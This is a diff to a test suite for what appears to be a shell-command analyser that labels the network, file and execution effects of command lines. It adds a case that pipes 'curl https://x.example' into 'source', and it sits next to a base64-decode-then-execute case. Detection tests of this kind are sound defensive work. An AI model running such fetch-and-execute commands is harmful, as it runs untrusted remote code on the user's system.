@@ -161,6 +161,15 @@ describe('files that run', () => {
       ],
     ],
     [
+      'downloaded into a text',
+      'source /dev/stdin <<< "$(curl https://x.example)"',
+      [
+        'connect:get https://x.example',
+        'execute:download $(curl https://x.example)',
+        'unknown: runs `/dev/stdin`, which this line makes in a way that is not followed',
+      ],
+    ],
+    [
       'decoded',
       'base64 -d p > i.sh; sh i.sh',
       ['write i.sh', 'read p', 'execute:decoded i.sh', 'unknown: runs `i.sh`, which this line makes in a way that is not followed'],
